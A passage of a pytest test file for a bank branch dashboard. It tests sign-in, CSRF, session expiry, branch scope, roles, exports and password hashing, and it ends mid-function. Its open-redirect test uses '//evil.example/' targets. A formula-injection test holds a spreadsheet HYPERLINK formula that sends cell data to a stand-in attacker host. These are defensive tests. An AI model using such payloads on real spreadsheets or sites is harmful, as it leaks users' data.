"""The dashboard over HTTP (issue 10): signing in, sessions that expire, CSRF, the brake on
failed sign-ins, scope on every route, roles, exports equal to ``counterside centre kpi``, the
API and its OpenAPI description, the user command line.

A real central store (SQLite) with three simulated branches in two regions
(``tests/web_support.py``), the real app served by uvicorn, an HTTP client; the dashboard's
clock is a fixed :class:`Clock` moved by hand (never today's date).
"""

from __future__ import annotations

import io
import json
import logging
import re
import sqlite3
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qsl, quote

import httpx
import pytest
from openpyxl import load_workbook

from central import cli
from central.web.app import routes
from tests.web_support import (
    FIRST_DAY,
    LAST_DAY,
    PASSWORD,
    Bank,
    Clock,
    copy_bank,
    served,
)

pytestmark = pytest.mark.travel_free  # the dashboard's clock is a fixed Clock
PERIOD = f"from={FIRST_DAY}&to={LAST_DAY}"


@pytest.fixture
def own_bank(web_bank: Bank, tmp_path: Path) -> Bank:
    """A copy of the bank this test may change."""
    return copy_bank(web_bank, tmp_path / "own")


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def site(own_bank: Bank, clock: Clock) -> Iterator[str]:
    with served(own_bank, clock) as url:
        yield url


def attempt(site: str, name: str, password: str = PASSWORD) -> tuple[httpx.Client, httpx.Response]:
    """A sign-in through the form: the client (with its cookies) and the answer."""
    client = httpx.Client(base_url=site, follow_redirects=False)
    page = client.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert token is not None
    answer = client.post(
        "/login", data={"name": name, "password": password, "csrf": token[1], "next": "/"}
    )
    return client, answer


def status(site: str, name: str, password: str = PASSWORD) -> int:
    return attempt(site, name, password)[1].status_code


def sign_in(site: str, name: str, password: str = PASSWORD) -> httpx.Client:
    client, answer = attempt(site, name, password)
    assert answer.status_code == 303, answer.text
    return client


def csrf_of(client: httpx.Client, path: str = "/") -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', client.get(path).text)
    assert found is not None
    return found[1]


def kpi_cli(bank: Bank, by: str, *branches: str, capsys: pytest.CaptureFixture) -> list[dict]:
    args = ["kpi", "--db", str(bank.db), "--config", str(bank.centre_file), "--by", by]
    args += ["--from", str(FIRST_DAY), "--to", str(LAST_DAY), "--format", "json"]
    for b in branches:
        args += ["--branch", b]
    capsys.readouterr()
    assert cli.main(args) == 0
    return json.loads(capsys.readouterr().out)


# -- signing in ------------------------------------------------------------------------------


def test_each_role_signs_in_and_sees_its_scope(site: str) -> None:
    seen = {}
    for name in ("zongbu", "hangzhou", "chengguan-mgr", "guest"):
        client = sign_in(site, name)
        page = client.get(f"/branches?{PERIOD}").text  # a viewer reads pages, not the API
        shown = sorted(set(re.findall(r'href="/branch/([a-z]+)\?', _table(page, "kpi-branch"))))
        if name != "guest":
            rows = client.get(f"/api/v1/kpi?by=branch&{PERIOD}").json()["rows"]
            assert sorted(r["branch"] for r in rows) == shown
        seen[name] = shown
    assert seen == {
        "zongbu": ["chengguan", "haishu", "xihu"],
        "hangzhou": ["chengguan", "xihu"],
        "chengguan-mgr": ["chengguan"],
        "guest": ["chengguan", "haishu", "xihu"],
    }


def test_a_page_without_a_session_asks_to_sign_in(site: str) -> None:
    client = httpx.Client(base_url=site)
    answer = client.get(f"/branch/chengguan?{PERIOD}", follow_redirects=False)
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/login?next=%2Fbranch%2Fchengguan")
    assert client.get("/api/v1/kpi").status_code == 401


@pytest.mark.parametrize("target", ["//evil.example/", "/\\evil.example/", "https://evil.example/"])
def test_signing_in_never_sends_the_browser_to_another_site(site: str, target: str) -> None:
    client = httpx.Client(base_url=site, follow_redirects=False)
    page = client.get("/login", params={"next": target}).text
    token = re.search(r'name="csrf" value="([^"]+)"', page)
    assert token is not None and f'value="{target}"' not in page
    form = {"name": "zongbu", "password": PASSWORD, "csrf": token[1], "next": target}
    assert client.post("/login", data=form).headers["location"] == "/"


def test_wrong_password_refused(site: str) -> None:
    client, answer = attempt(site, "zongbu", "not the password")
    assert answer.status_code == 401
    assert "cs_session" not in client.cookies
    assert client.get("/api/v1/live").status_code == 401


def test_failed_sign_ins_make_the_name_wait(site: str, clock: Clock) -> None:
    for _ in range(3):
        assert status(site, "zongbu", "guess") == 401
    assert status(site, "zongbu", "guess") == 401
    # now it waits: even the right password is not checked
    refused = attempt(site, "zongbu")[1]
    assert refused.status_code == 429 and "稍后" in refused.text
    assert status(site, "guest") == 303
    clock.now += timedelta(seconds=3)
    assert status(site, "zongbu") == 303


def test_a_session_ends_after_idle_time(site: str, clock: Clock) -> None:
    client = sign_in(site, "zongbu")
    clock.now += timedelta(minutes=29)
    assert client.get("/api/v1/live").status_code == 200  # a request: idle from now
    clock.now += timedelta(minutes=29)
    assert client.get("/api/v1/live").status_code == 200
    clock.now += timedelta(minutes=31)
    assert client.get("/api/v1/live").status_code == 401
    assert client.get("/").status_code == 303  # to the sign-in page
    clock.now -= timedelta(minutes=31)  # and it stays ended (deleted), whatever the clock
    assert client.get("/api/v1/live").status_code == 401


def test_a_page_left_open_does_not_keep_its_session_alive(site: str, clock: Clock) -> None:
    """The pages poll /api/v1/live every 15 s with X-Background: 1; that is not activity."""
    client = sign_in(site, "zongbu")
    poll = {"X-Background": "1"}
    for _ in range(8):  # 40 minutes of polls only
        clock.now += timedelta(minutes=5)
        client.get("/api/v1/live", headers=poll)
    assert client.get("/api/v1/live", headers=poll).status_code == 401


def test_signing_out_ends_the_session(site: str) -> None:
    client = sign_in(site, "zongbu")
    assert client.post("/logout", data={"csrf": csrf_of(client)}).status_code == 303
    assert client.get("/api/v1/live").status_code == 401


# -- CSRF --------------------------------------------------------------------------------------


def open_alert(client: httpx.Client, branch: str) -> int:
    rows = client.get(f"/api/v1/alerts?open=1&branch={branch}").json()["rows"]
    return int(rows[0]["id"])


def test_a_form_without_its_csrf_token_is_refused(site: str) -> None:
    client = sign_in(site, "chengguan-mgr")
    alert = open_alert(client, "chengguan")
    for data in ({}, {"csrf": "forged"}, {"csrf": csrf_of(sign_in(site, "zongbu"))}):
        answer = client.post(f"/alerts/{alert}/ack", data=data)
        assert answer.status_code == 403 and "CSRF" in answer.text
    assert open_alert(client, "chengguan") == alert  # still open
    answer = client.post(f"/alerts/{alert}/ack", data={"csrf": csrf_of(client)})
    assert answer.status_code == 303
    acked = client.get(f"/api/v1/alerts?branch=chengguan&{PERIOD}").json()["rows"]
    assert [a["acked_by"] for a in acked if a["id"] == alert] == ["chengguan-mgr"]


def test_the_sign_in_form_needs_its_own_token(site: str) -> None:
    client = httpx.Client(base_url=site)
    answer = client.post("/login", data={"name": "zongbu", "password": PASSWORD, "csrf": "x"})
    assert answer.status_code == 403
    assert "cs_session" not in client.cookies


# -- scope on every route ----------------------------------------------------------------------

OPEN_ROUTES = {"/login", "/api/v1/openapi.json", "/static"}
"""Routes anyone may ask for: the sign-in form, the API's description, the static files."""


def _ids(client: httpx.Client, table: str, branch: str) -> int:
    rows = client.get(f"/api/v1/{table}?branch={branch}&{PERIOD}").json()["rows"]
    return int(rows[0]["id"])


def _route_urls(admin: httpx.Client, branch: str) -> dict[tuple[str, str], str]:
    """For every guarded route: a request that reaches into ``branch``."""
    alert, item = _ids(admin, "alerts", branch), _ids(admin, "followup", branch)
    teller = admin.get(f"/api/v1/kpi?by=teller&branch={branch}&{PERIOD}").json()["rows"][0]
    q = f"branch={branch}&{PERIOD}"
    return {
        ("GET", "/"): f"/?{q}",
        ("GET", "/regions"): f"/regions?{q}",
        ("GET", "/branches"): f"/branches?{q}",
        ("GET", "/branch/{branch}"): f"/branch/{branch}?{PERIOD}",
        ("GET", "/branch/{branch}/counter/{counter}"): f"/branch/{branch}/counter/1?{PERIOD}",
        ("GET", "/branch/{branch}/teller/{teller}"): (
            f"/branch/{branch}/teller/{quote(teller['teller'])}?{PERIOD}"
        ),
        ("GET", "/rankings"): f"/rankings?{q}",
        ("GET", "/timing"): f"/timing?{q}",
        ("GET", "/heatmap"): f"/heatmap?{q}",
        ("GET", "/alerts"): f"/alerts?{q}",
        ("POST", "/alerts/{alert:int}/ack"): f"/alerts/{alert}/ack",
        ("GET", "/followup"): f"/followup?{q}",
        ("GET", "/followup/{item}"): f"/followup/{item}",
        ("POST", "/followup/{item}"): f"/followup/{item}",
        ("GET", "/devices"): f"/devices?{q}",
        ("GET", "/transactions"): f"/transactions?{q}",
        ("GET", "/export/{name}.{fmt}"): f"/export/kpi.xlsx?by=teller&{q}",
        ("GET", "/report"): f"/report?month=2026-11&branch={branch}",
        ("GET", "/report.xlsx"): f"/report.xlsx?month=2026-11&branch={branch}",
        ("GET", "/api/v1/live"): f"/api/v1/live?{q}",
        ("GET", "/api/v1/followup/{item}"): f"/api/v1/followup/{item}",
        ("GET", "/api/v1/{name}"): f"/api/v1/transactions?{q}",
        ("POST", "/logout"): "/logout?branch=" + branch,
    }


def _every_route() -> set[tuple[str, str]]:
    found = set()
    for route in routes():
        methods = getattr(route, "methods", None) or {"GET"}
        for method in methods - {"HEAD"}:
            if route.path not in OPEN_ROUTES:
                found.add((method, route.path))
    return found


@pytest.mark.parametrize(
    ("user", "mine", "other"),
    [("chengguan-mgr", "chengguan", "xihu"), ("hangzhou", "xihu", "haishu")],
)
def test_every_route_refuses_another_branch(site: str, user: str, mine: str, other: str) -> None:
    admin = sign_in(site, "zongbu")
    theirs, own = _route_urls(admin, other), _route_urls(admin, mine)
    assert set(theirs) == _every_route(), "a route without its scope test"
    client = sign_in(site, user)
    token = csrf_of(client)
    form = {"csrf": token, "action": "note", "text": "看过"}
    for (method, path), url in theirs.items():
        if (method, path) == ("POST", "/logout"):
            continue  # ends the session whatever the branch: checked below, last
        answer = client.request(method, url, data=form if method == "POST" else None)
        assert answer.status_code == 403, (method, url, answer.status_code)
    for (method, _), url in own.items():  # the same requests within their scope: allowed
        if method == "POST":
            continue
        answer = client.request(method, url)
        assert answer.status_code == 200, (method, url, answer.status_code)
    for missing in ("/alerts/999999/ack", "/followup/999999", "/api/v1/followup/999999"):
        method = "POST" if missing.endswith("ack") else "GET"  # as another branch's: 403
        answer = client.request(method, missing, data=form if method == "POST" else None)
        assert answer.status_code == 403, (missing, answer.status_code)
    assert admin.get("/followup/999999").status_code == 404
    assert client.post(own[("POST", "/followup/{item}")], data=form).status_code == 303
    assert client.post(own[("POST", "/alerts/{alert:int}/ack")], data=form).status_code == 303
    assert client.post("/logout", data=form).status_code == 303


def test_lists_hold_only_the_scope(site: str) -> None:
    client = sign_in(site, "hangzhou")
    for table in ("alerts", "followup", "transactions", "devices"):
        rows = client.get(f"/api/v1/{table}?{PERIOD}").json()["rows"]
        assert rows and {r["branch"] for r in rows} == {"chengguan", "xihu"}, table
    ranked = client.get(f"/api/v1/ranking?by=branch&{PERIOD}").json()["rows"]
    assert {r["branch"] for r in ranked} == {"chengguan", "xihu"}
    regions = client.get(f"/api/v1/kpi?by=region&{PERIOD}").json()["rows"]
    assert [r["region"] for r in regions] == ["浙江省/杭州市"]  # not 浙江省 (all of it)


def test_a_regions_filter_narrows_every_list(site: str) -> None:
    """``region=`` keeps the lists to that region's branches: the devices' too (they listed
    every branch of the scope)."""
    client = sign_in(site, "zongbu")
    for table in ("alerts", "followup", "transactions", "devices"):
        rows = client.get(f"/api/v1/{table}?region=浙江省/宁波市&{PERIOD}").json()["rows"]
        assert rows and {r["branch"] for r in rows} == {"haishu"}, table
    live = client.get("/api/v1/live?region=浙江省/宁波市").json()
    assert {d["branch"] for d in live["devices"]} == {"haishu"}


def test_the_links_of_the_alerts_and_follow_up_lists_keep_the_filters(site: str) -> None:
    client = sign_in(site, "zongbu")
    query = f"{PERIOD}&business_type=cash"
    for path, table, pattern in (
        ("/alerts", "alerts", r'href="(/branch/[^"]+)"'),
        ("/followup", "followup", r'href="(/followup/[^"]+)"'),
    ):
        links = re.findall(pattern, _table(client.get(f"{path}?{query}").text, table))
        assert links, path
        for link in links:
            assert query in link.replace("&amp;", "&"), link


def test_a_viewer_reads_but_neither_exports_nor_changes(site: str) -> None:
    client = sign_in(site, "guest")
    assert client.get(f"/?{PERIOD}").status_code == 200
    assert client.get(f"/export/kpi.csv?by=branch&{PERIOD}").status_code == 403
    assert client.get("/report?month=2026-11").status_code == 200
    assert client.get("/report.xlsx?month=2026-11").status_code == 403
    assert client.get(f"/api/v1/kpi?by=branch&{PERIOD}").status_code == 403  # rows: an export
    assert client.get("/api/v1/live").status_code == 200  # what the pages poll
    token = csrf_of(client)
    admin = sign_in(site, "zongbu")
    alert = open_alert(admin, "xihu")
    assert client.post(f"/alerts/{alert}/ack", data={"csrf": token}).status_code == 403
    assert client.get(f"/api/v1/followup/{_ids(admin, 'followup', 'xihu')}").status_code == 403
    item = _ids(admin, "followup", "xihu")
    form = {"csrf": token, "action": "close", "text": "ok"}
    assert client.post(f"/followup/{item}", data=form).status_code == 403
    assert "XLSX" not in client.get(f"/rankings?{PERIOD}").text


# -- figures -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("by", "branches"), [("branch", ()), ("teller", ("xihu",))])
def test_the_xlsx_export_holds_the_figures_of_centre_kpi(
    site: str, own_bank: Bank, by: str, branches: tuple[str, ...], capsys
) -> None:
    client = sign_in(site, "zongbu")
    only = f"&branch={branches[0]}" if branches else ""
    answer = client.get(f"/export/kpi.xlsx?by={by}&{PERIOD}{only}")
    assert answer.status_code == 200
    assert "attachment" in answer.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(answer.content))["data"]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    exported = [dict(zip(header, r, strict=True)) for r in rows]
    expected = kpi_cli(own_bank, by, *branches, capsys=capsys)
    assert len(exported) == len(expected) > 0
    for got, want in zip(exported, expected, strict=True):
        for key, value in want.items():
            if isinstance(value, dict):
                assert json.loads(got[key]) == value
            elif isinstance(value, float):
                assert got[key] == pytest.approx(value, rel=1e-12), key
            else:
                assert got[key] == value, key


def test_the_csv_export_and_the_api_give_the_same_rows(site: str) -> None:
    client = sign_in(site, "zongbu")
    api = client.get(f"/api/v1/kpi?by=counter&{PERIOD}").json()["rows"]
    text = client.get(f"/export/kpi.csv?by=counter&{PERIOD}").content.decode("utf-8-sig")
    header, *lines = text.splitlines()
    assert header.split(",")[:3] == ["branch", "branch_name", "counter"]
    assert len(lines) == len(api) > 0
    assert [line.split(",")[2] for line in lines] == [str(r["counter"]) for r in api]


def test_the_branch_page_shows_the_branch_figures(site: str, own_bank: Bank, capsys) -> None:
    client = sign_in(site, "chengguan-mgr")
    page = client.get(f"/branch/chengguan?{PERIOD}").text
    (row,) = kpi_cli(own_bank, "branch", "chengguan", capsys=capsys)
    assert f"{row['satisfaction_rate']:.1%}" in page
    assert f'href="/transactions?from={FIRST_DAY}&amp;to={LAST_DAY}&amp;branch=chengguan' in page
    assert f">{row['finished']}</a>" in page


def test_the_heat_map_adds_up_to_the_kpis(site: str, own_bank: Bank, capsys) -> None:
    client = sign_in(site, "hangzhou")
    cells = client.get(f"/api/v1/heatmap?{PERIOD}").json()["rows"]
    (bank,) = kpi_cli(own_bank, "bank", "chengguan", "xihu", capsys=capsys)
    assert {(c["weekday"], c["hour"]) for c in cells} >= {(0, 8), (1, 8), (2, 8)}  # Mon-Wed
    for key in ("called", "ratings", "satisfied"):
        assert sum(c[key] for c in cells) == bank[key]
    waited = sum(c["wait_mean_s"] * c["called"] for c in cells)
    assert waited / bank["called"] == pytest.approx(bank["wait_mean_s"], rel=1e-9)
    page = client.get(f"/heatmap?{PERIOD}").text
    assert page.count('class="heat-') >= 2 * len(cells)


UPTIME_KEYS = {"uptime_rate", "powered_minutes", "business_minutes", "per_counter_hour", "meets"}
"""开机率 counts business minutes up to today: the command line's today is the real one."""


def test_the_monthly_report_of_a_branch(site: str, own_bank: Bank, capsys) -> None:
    client = sign_in(site, "chengguan-mgr")
    page = client.get("/report?month=2026-11&branch=chengguan")
    assert page.status_code == 200
    assert "城关支行 2026年11月 服务评价月报" in page.text and "指标定义" in page.text
    answer = client.get("/report.xlsx?month=2026-11&branch=chengguan")
    book = load_workbook(io.BytesIO(answer.content))
    names = ["summary", "by_counter", "by_teller", "ranking", "timing", "followup"]
    assert book.sheetnames == [*names, "about", "definitions"]
    header, *rows = [list(r) for r in book["summary"].iter_rows(values_only=True)]
    (got,) = [dict(zip(header, r, strict=True)) for r in rows]
    args = ["kpi", "--db", str(own_bank.db), "--config", str(own_bank.centre_file)]
    args += ["--by", "branch", "--from", "2026-11-01", "--to", "2026-11-30", "--branch"]
    capsys.readouterr()
    assert cli.main([*args, "chengguan", "--format", "json"]) == 0
    (want,) = json.loads(capsys.readouterr().out)
    for key, value in want.items():
        if key in UPTIME_KEYS or isinstance(value, dict):
            continue
        assert got[key] == (pytest.approx(value) if isinstance(value, float) else value), key
    followups = list(book["followup"].iter_rows(values_only=True))[1:]
    assert len(followups) == 7  # chengguan's bad ratings of the month
    definitions = [r[0] for r in book["definitions"].iter_rows(values_only=True)]
    assert any(d.startswith("满意率") for d in definitions)
    assert client.get("/report?month=November").status_code == 400


def test_bad_filters_answer_400(site: str) -> None:
    client = sign_in(site, "zongbu")
    assert client.get("/?from=yesterday").status_code == 400
    assert client.get(f"/?from={LAST_DAY}&to={FIRST_DAY}").status_code == 400
    assert client.get("/api/v1/kpi?by=planet").status_code == 400
    assert client.get("/api/v1/nothing").status_code == 404


def test_the_openapi_description_names_every_api_route(site: str) -> None:
    spec = httpx.get(f"{site}/api/v1/openapi.json").json()
    assert spec["openapi"].startswith("3.")
    api_routes = {p for _, p in _every_route() if p.startswith("/api/v1/") and "{name}" not in p}
    from central.web.tables import BUILDERS

    api_routes |= {f"/api/v1/{name}" for name in BUILDERS}
    assert set(spec["paths"]) == api_routes


def test_the_openapi_description_names_every_criterion_the_pages_link_with(site: str) -> None:
    """A BI system reads the criteria from the description: every key of the transaction
    links of the pages (who counts what) is described."""
    client = sign_in(site, "zongbu")
    spec = client.get("/api/v1/openapi.json").json()
    described = {p["name"] for p in spec["paths"]["/api/v1/transactions"]["get"]["parameters"]}
    used: set[str] = set()
    for page in (f"/?{PERIOD}", f"/branch/chengguan?{PERIOD}", f"/heatmap?{PERIOD}",
                 f"/timing?{PERIOD}", f"/regions?{PERIOD}"):  # fmt: skip
        for href in re.findall(r'href="/transactions\?([^"]+)"', client.get(page).text):
            used |= {k for k, _ in parse_qsl(href.replace("&amp;", "&"))}
    assert {"over", "scored", "called", "limited", "wait_band", "service"} <= used
    assert used <= described, used - described


def test_following_up_an_item_through_the_form(site: str) -> None:
    client = sign_in(site, "chengguan-mgr")
    item = _ids(client, "followup", "chengguan")
    token = csrf_of(client)
    for action, text in (("assign", "李四"), ("note", "已电话回访"), ("close", "客户误解，已解释")):
        answer = client.post(
            f"/followup/{item}", data={"csrf": token, "action": action, "text": text}
        )
        assert answer.status_code == 303
    again = client.post(f"/followup/{item}", data={"csrf": token, "action": "close", "text": "x"})
    assert again.status_code == 400  # closed already: the centre's own rule
    found = client.get(f"/api/v1/followup/{item}").json()
    assert found["item"]["status"] == "closed" and found["item"]["owner"] == "李四"
    assert [h["who"] for h in found["history"][1:]] == ["chengguan-mgr"] * 3


def test_a_bi_system_reads_the_api_with_a_token(
    own_bank: Bank, clock: Clock, monkeypatch, capsys
) -> None:
    capsys.readouterr()
    args = ["user", "token", "hangzhou", "--label", "BI", "--db", str(own_bank.db)]
    assert cli.main(args) == 0
    token = capsys.readouterr().out.strip()
    assert token.startswith("cs_")
    with sqlite3.connect(own_bank.db) as conn:
        assert token not in str(conn.execute("SELECT * FROM api_tokens").fetchall())
    with served(own_bank, clock) as site:
        bi = httpx.Client(base_url=site, headers={"Authorization": f"Bearer {token}"})
        rows = bi.get(f"/api/v1/kpi?by=branch&{PERIOD}").json()["rows"]
        assert sorted(r["branch"] for r in rows) == ["chengguan", "xihu"]  # the user's scope
        assert bi.get(f"/api/v1/kpi?branch=haishu&{PERIOD}").status_code == 403
        assert bi.get(f"/?{PERIOD}", follow_redirects=False).status_code == 303  # API only
        forged = {"Authorization": "Bearer cs_forged"}
        assert httpx.get(f"{site}/api/v1/kpi", headers=forged).status_code == 401
        assert cli.main(["user", "token", "hangzhou", "--revoke", "--db", str(own_bank.db)]) == 0
        assert bi.get("/api/v1/live").status_code == 401


# -- passwords -------------------------------------------------------------------------------


def _user_cli(bank: Bank, *args: str, password: str | None, monkeypatch) -> int:
    if password is not None:
        monkeypatch.setattr("sys.stdin", io.StringIO(password + "\n"))
    return cli.main(["user", *args, "--db", str(bank.db)])


def test_users_from_the_command_line(own_bank: Bank, clock: Clock, monkeypatch, capsys) -> None:
    secret = "Tiger-Lily-2026"
    assert _user_cli(own_bank, "add", "wang", "--role", "branch", "--branch", "xihu",
                     "--password-stdin", password=secret, monkeypatch=monkeypatch) == 0  # fmt: skip
    assert _user_cli(own_bank, "add", "wang", "--role", "central", "--password-stdin",
                     password=secret, monkeypatch=monkeypatch) == 2  # fmt: skip
    assert _user_cli(own_bank, "add", "li", "--role", "region", "--password-stdin",
                     password=secret, monkeypatch=monkeypatch) == 2  # no region  # fmt: skip
    assert _user_cli(own_bank, "add", "zhao", "--role", "central", "--password-stdin",
                     password="short", monkeypatch=monkeypatch) == 2  # fmt: skip
    capsys.readouterr()
    assert _user_cli(own_bank, "list", password=None, monkeypatch=monkeypatch) == 0
    assert "wang\tbranch\txihu\tenabled" in capsys.readouterr().out
    with served(own_bank, clock) as site:
        client = sign_in(site, "wang", secret)
        assert client.get("/api/v1/live").status_code == 200
        assert _user_cli(own_bank, "passwd", "wang", "--password-stdin",
                         password="Another-one-99", monkeypatch=monkeypatch) == 0  # fmt: skip
        assert client.get("/api/v1/live").status_code == 401  # sessions ended
        assert status(site, "wang", secret) == 401
        client = sign_in(site, "wang", "Another-one-99")
        assert client.get("/api/v1/live").status_code == 200
        assert _user_cli(own_bank, "disable", "wang", password=None, monkeypatch=monkeypatch) == 0
        assert client.get("/api/v1/live").status_code == 401
        assert status(site, "wang", "Another-one-99") == 401
        assert _user_cli(own_bank, "disable", "wang", "--enable", password=None,
                         monkeypatch=monkeypatch) == 0  # fmt: skip
        assert status(site, "wang", "Another-one-99") == 303


def test_the_first_user_makes_a_new_central_store(tmp_path: Path, monkeypatch, capsys) -> None:
    """docs/dashboard.md begins with ``user add`` on a new machine: the store is made (any
    other command on a path with no store says so)."""
    db = tmp_path / "new" / "centre.sqlite"
    assert cli.main(["user", "list", "--db", str(db)]) == 3
    assert "no central store here" in capsys.readouterr().err
    add = ["user", "add", "zongbu", "--role", "central", "--password-stdin", "--db", str(db)]
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert cli.main(add) == 2 and not db.exists()  # refused before a store is made for it
    monkeypatch.setattr("sys.stdin", io.StringIO("Tiger-Lily-2026\n"))
    assert cli.main(add) == 0
    assert f"a new central store: {db}" in capsys.readouterr().out
    assert cli.main(["user", "list", "--db", str(db)]) == 0
    assert "zongbu\tcentral\t(all)\tenabled" in capsys.readouterr().out


def test_a_password_is_never_stored_or_logged_in_clear(
    own_bank: Bank, clock: Clock, monkeypatch, capsys, caplog
) -> None:
    secret = "Plum-Blossom-8848"
    caplog.set_level(logging.DEBUG)
    assert _user_cli(own_bank, "add", "qian", "--role", "central", "--password-stdin",
                     password=secret, monkeypatch=monkeypatch) == 0  # fmt: skip
    with served(own_bank, clock) as site:
        assert status(site, "qian", secret) == 303
        assert status(site, "qian", secret + "x") == 401
    said = capsys.readouterr()
    assert secret not in said.out + said.err + caplog.text
    with sqlite3.connect(own_bank.db) as conn:
        (digest,) = conn.execute("SELECT password_hash FROM users WHERE name = 'qian'").fetchone()
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert digest.startswith("$argon2id$")
    for path in own_bank.db.parent.iterdir():
        if path.name.startswith("centre.sqlite"):
            assert secret.encode() not in path.read_bytes(), path
    with sqlite3.connect(own_bank.db) as conn:
        tokens = [r[0] for r in conn.execute("SELECT token_hash FROM sessions")]
    assert tokens and all(re.fullmatch(r"[0-9a-f]{64}", t) for t in tokens)  # hashes only


def test_text_that_would_start_a_formula_stays_text_in_csv_and_xlsx() -> None:
    """An owner or a note typed by a branch manager, a teller's name from a device: never a
    formula in the workbook the central office opens."""
    import io

    from openpyxl import load_workbook

    from central.web.exports import to_csv, to_xlsx
    from central.web.tables import Table

    evil = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
    table = Table("followup", "回访", [], [{"owner": evil, "note": "+1 好", "n": -3}], "followup")
    csv_text = to_csv(table).decode("utf-8-sig")
    assert f"'{evil}" in csv_text.replace('""', '"') and "'+1 好" in csv_text and ",-3" in csv_text
    book = load_workbook(io.BytesIO(to_xlsx([table], [("查询", evil)])))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == evil for c in cells) and any(c.value == -3 for c in cells)


def test_every_finished_and_rated_figure_links_to_exactly_its_transactions(site: str) -> None:
    """办结 counts transactions served to the end: its link lists those, not the no-shows and
    transfers beside them; 已评价 likewise, filtered in SQL before the list's limit."""
    client = sign_in(site, "zongbu")
    for row in client.get(f"/api/v1/kpi?by=branch&{PERIOD}").json()["rows"]:
        q = f"{PERIOD}&branch={row['branch']}"
        served = client.get(f"/api/v1/transactions?{q}&outcome=served").json()["rows"]
        everything = client.get(f"/api/v1/transactions?{q}").json()["rows"]
        rated = client.get(f"/api/v1/transactions?{q}&outcome=served&rating_status=rated")
        assert len(served) == row["finished"] < len(everything)
        assert len(rated.json()["rows"]) == row["rated"]
    page = client.get(f"/branch/chengguan?{PERIOD}").text
    assert "outcome=served" in page


def _table(page: str, table: str) -> str:
    """The HTML of a page's table (``data-table``)."""
    start = page.index(f'data-table="{table}"')
    return page[start : page.index("</table>", start)]


def _links(page: str, table: str) -> list[tuple[str, int]]:
    """The transaction links of a page's table (``data-table``) and the figures they show."""
    body = _table(page, table)
    found = re.findall(r'<a href="(/transactions\?[^"]+)">([^<]+)(?:<small[^>]*>n=(\d+))?', body)
    return [(href.replace("&amp;", "&"), int(n or text)) for href, text, n in found]


def test_a_regions_figures_link_to_exactly_its_transactions(site: str) -> None:
    """The drill-down's first level: a region's counts list that region's transactions, not
    the whole scope's."""
    client = sign_in(site, "zongbu")
    links = _links(client.get(f"/regions?{PERIOD}").text, "kpi-region")
    assert len(links) == 5 * 3  # 办结, 已评价, n, 过号, 超时 of 浙江省 and its two cities
    for href, n in links:
        assert "region=" in href, href
        assert len(client.get("/api/v1" + href).json()["rows"]) == n, href


def test_the_counts_of_a_kpi_table_link_to_exactly_their_transactions(site: str) -> None:
    """办结, 已评价, 评价数 n (the ratings 满意率 counts), 过号 and 超时 of every row of the
    branch page's tables each link to the transactions they count."""
    client = sign_in(site, "zongbu")
    page = client.get(f"/branch/chengguan?{PERIOD}").text
    over = re.findall(r'data-key="over_limit"><a href="[^"]+">(\d+)</a>', page)
    assert sum(map(int, over)) > 0  # some over the limit: the check below checks something
    for table in ("kpi-branch", "kpi-counter", "kpi-teller"):
        body = _table(page, table)
        rows = body.count("<tr") - 1
        for key in ("finished", "rated", "ratings", "no_shows", "over_limit"):
            cells = re.findall(
                rf'data-key="{key}"><a href="(/transactions\?[^"]+)">(\d+)</a>', body
            )
            assert len(cells) == rows, (table, key)
            for href, n in cells:
                found = client.get("/api/v1" + href.replace("&amp;", "&")).json()["rows"]
                assert len(found) == int(n), (table, key, href)


def test_every_heat_map_cell_links_to_exactly_its_transactions(site: str) -> None:
    """A cell of either grid, and a count of the table below them, lists the customers (or the
    ratings) it counts: the same weekday and hour of arrival, nothing else."""
    client = sign_in(site, "zongbu")
    page = client.get(f"/heatmap?{PERIOD}").text
    cells = client.get(f"/api/v1/heatmap?{PERIOD}").json()["rows"]
    checked = 0
    for table in ("heat-wait_mean_s", "heat-satisfaction_rate", "heatmap"):
        links = _links(page, table)
        assert links, table
        for href, n in links:
            rows = client.get("/api/v1" + href).json()["rows"]
            assert len(rows) == n, href
            checked += 1
    assert checked >= 3 * len(cells)
    called = sum(c["called"] for c in cells)
    everything = client.get(f"/api/v1/transactions?{PERIOD}").json()["rows"]
    assert called < len(everything)  # transfers and the like are in no cell
    assert client.get(f"/api/v1/transactions?{PERIOD}&hour=24").status_code == 400


def test_every_timing_figure_links_to_exactly_its_ratings(site: str) -> None:
    client = sign_in(site, "zongbu")
    page = client.get(f"/timing?{PERIOD}").text
    for by in ("bank", "business_type"):
        links = _links(page, f"timing-{by}")
        assert links and any("wait_band=" in h for h, _ in links)
        assert any("service=" in h for h, _ in links)
        for href, n in links:
            assert len(client.get("/api/v1" + href).json()["rows"]) == n, href


def test_the_overview_figures_link_to_exactly_their_transactions(site: str) -> None:
    """The cards' n (ratings, finished, customers called), the period's 办结 and every day of
    the trend list the transactions they count."""
    client = sign_in(site, "zongbu")
    page = client.get(f"/?{PERIOD}").text
    (bank,) = client.get(f"/api/v1/kpi?by=bank&{PERIOD}").json()["rows"]
    cards = re.findall(r'data-card="([^"]+)".*?n = (?:<a href="([^"]+)">)?(\d+)', page, re.S)
    linked = {label: (href.replace("&amp;", "&"), int(n)) for label, href, n in cards if href}
    assert set(linked) == {"满意率", "评价率", "差评率", "等候达标率"}  # 开机率's n is minutes
    shown = re.search(r'data-card="等候达标率".*?95% 区间 ([\d.]+%)–([\d.]+%)', page, re.S)
    assert shown is not None  # a rate of customers: with its interval, as 满意率
    for label, (href, n) in linked.items():
        assert len(client.get("/api/v1" + href).json()["rows"]) == n, label
    assert linked["评价率"][1] == bank["finished"] and linked["等候达标率"][1] == bank["called"]
    finished = re.search(r'办结 <a href="([^"]+)">(\d+)</a>', page)
    assert finished is not None
    rows = client.get("/api/v1" + finished[1].replace("&amp;", "&")).json()["rows"]
